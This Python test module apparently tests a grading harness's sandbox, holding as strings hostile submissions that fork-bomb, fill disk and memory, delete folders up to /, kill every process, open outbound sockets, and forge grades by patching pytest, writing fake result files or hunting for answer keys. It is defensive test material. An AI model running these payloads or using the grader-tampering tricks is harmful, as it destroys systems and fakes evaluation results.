"""Submissions that attack the grader instead of answering."""

from __future__ import annotations

from tests.labs.attempts import ATTEMPTS, HOARD, attempting

# Should a fault of the isolation or of a test let one of them out, it must not harm the machine that runs the tests.
GUARD = """
import os
if 1 not in (os.getpid(), os.getppid()):  # in a container, the first process is the one that ends it in time
    raise SystemExit("not in a namespace of its own")
"""
FORGE = """
import itertools, json, sys
wire = sys.modules["wire"]
"""
# Each runs when the student's module is imported, in front of an answer that has solved nothing. It knows OUT, where
# the grades go, PORT, at which something listens on this machine, and START, the folder to look for things in.
HOSTILE = {
    "reads_the_checks": """
import os
found = []
for folder, below, names in os.walk(START):
    below[:] = [name for name in below if name not in ("proc", "usr", "site-packages")]
    secret = [name for name in names if name.startswith(("checks.", "lab.", "canary.txt", "grades", "alternative."))]
    found += [os.path.join(folder, name) for name in secret]
print("FOUND", len(found), found[:5])
""",
    "writes_the_result": """
import os
for folder in ("/", "/tmp", "/work", os.environ.get("HOME", "/"), "..", "../..", OUT):
    for name in ("grades.json", "results/writes_the_result.json", "report.json"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write('{"earned": 100}')
        except OSError:
            pass
""",
    "patches_pytest": """
import sys
import pytest
pytest.main = lambda *_: 0
for name, module in list(sys.modules.items()):
    for attribute in ("expect", "refusal", "run_checks"):
        if hasattr(module, attribute):
            setattr(module, attribute, lambda *_, **__: None)
""",
    # Once there are as many as may be, it tries again and again, but leaves the tests beside it some of the machine.
    "forks_without_end": """
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
""",
    "fills_the_disk": """
import os
count = 0
while True:
    count += 1
    try:
        with open(f"/tmp/{count}", "wb") as file:
            while True:
                file.write(bytes(1 << 20))
    except OSError:
        if count > 100:
            break
print("FILLED", sum(os.path.getsize(f"/tmp/{one}") for one in range(1, count) if os.path.exists(f"/tmp/{one}")))
""",
    "fills_the_memory": """
hoard = []
while True:
    hoard.append(bytearray(b"x" * (16 << 20)))
""",
    "opens_a_socket": """
import socket
for address in (("127.0.0.1", PORT), ("1.1.1.1", 53)):
    try:
        with socket.create_connection(address, 2) as connection:
            connection.sendall(b"GET /stolen HTTP/1.0\\r\\n\\r\\n")
        print("CONNECTED", address)
    except OSError:
        pass
try:
    socket.socket(socket.AF_VSOCK)  # from a virtual machine to its host, past every network
    print("CONNECTED to the host")
except OSError:
    pass
""",
    "finds_the_reference": """
import os, sys
places = [os.path.join(folder, "server") for folder in sys.path[1:]]  # where it may be installed, but for its own
for folder, below, _ in os.walk(START):
    below[:] = [name for name in below if name not in ("proc", "sys", "usr", "lib", "lab", "tmp")]
    places.append(folder)
files = [os.path.join(place, name) for place in places for name in ("preprocessing.py", "payload.py", "routes.py")]
found = [file for file in files if os.path.exists(file)]
print("REFERENCE", len(found), found[:5])
""",
    "hides_memory": """
import ctypes, os
hidden = 0
try:
    file = os.memfd_create("nobody counts this")
    hidden += os.write(file, bytes(8 << 20))
except OSError:
    pass
libc = ctypes.CDLL(None)
if (number := libc.shmget(0, 8 << 20, 0o1600)) != -1:
    hidden += 8 << 20
    libc.shmctl(number, 0, 0)
print("HIDDEN", hidden)
""",
    "answers_without_end": FORGE
    + """
wire.dump = lambda _: b"[" * (64 << 20)
""",
    "answers_nonsense": FORGE
    + """
lines = itertools.cycle([
    b"[" * 100_000 + b"]" * 100_000,
    b'{"value": ' + b"1" * 5000 + b"}",
    b'{"value": {"__array__": "AAAA", "dtype": "f4,,", "shape": [1]}}',
    b'{"value": {"__array__": "AAAA", "dtype": "O", "shape": [1]}}',
    b'{"value": {"__array__": "AAAA", "dtype": "u1", "shape": [1180591620717411303424]}}',
    b'{"raised": {"kinds": 5, "message": [], "where": 1e999, "traceback": {}}}',
    b'{"raised": [[[]]]}',
    b"\\xff\\xfe",
])
wire.dump = lambda _: next(lines) + b"\\n"
""",
    "answers_without_numbers": FORGE
    + """
import numpy
original = wire.dump
wire.dump = lambda _: original({"value": numpy.full((4, 28, 28, 1), numpy.nan, numpy.float32)})
""",
    "raises_volumes": FORGE
    + """
volume = "<script>alert(1)</script>\\ud800\\x1b[2J" * 5_000
raised = {"kinds": ["BadInput", volume], "message": volume, "where": [[volume, 1, volume]] * 3, "traceback": volume}
wire.dump = lambda _: json.dumps({"raised": raised}).encode() + b"\\n"
""",
    "sleeps": "import time\ntime.sleep(3600)\n",
    "exits_0": "import os\nos._exit(0)\n",
    "prints_a_report": """
import json, os, sys
report = json.dumps({"lab": "04_server", "results": [{"name": "x", "title": "x", "task": 1, "points": 99,
                     "state": "passed"}], "printed": ""})
for descriptor in range(1, 64):
    try:
        os.write(descriptor, (report + "\\n").encode() * 3)
    except OSError:
        pass
sys.__stdout__.write(report)
""",
    "prints_without_end": """
while True:
    print("x" * 100_000)
""",
    "deletes_its_folder": """
import os, shutil
for folder in (os.getcwd(), os.path.dirname(os.getcwd()), "/", os.environ.get("HOME", "/")):
    shutil.rmtree(folder, ignore_errors=True)
""",
    "kills_its_neighbors": """
import os, signal
for number in range(1, 70_000):
    if number not in (os.getpid(), os.getppid()):
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
""",
    "outlives_its_parent": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3600)
""",
}
HOSTILE |= {"attempts_much": attempting([*ATTEMPTS]), "hoards_in_sockets": HOARD}
# Those that do no harm where nothing holds them back.
HARMLESS = ("reads_the_checks", "writes_the_result", "opens_a_socket", "finds_the_reference", "hides_memory")
# Those for which it matters what keeps them in; what becomes of the others is decided outside, in whatever they run.
KEPT_IN = (
    *("reads_the_checks", "writes_the_result", "opens_a_socket", "finds_the_reference", "hides_memory"),
    *("fills_the_disk", "fills_the_memory", "forks_without_end", "attempts_much"),
)
# Those for which it matters whose processes and pages they are.
OF_A_USER = ("kills_its_neighbors", "outlives_its_parent", "hoards_in_sockets", "exits_0", "raises_volumes")
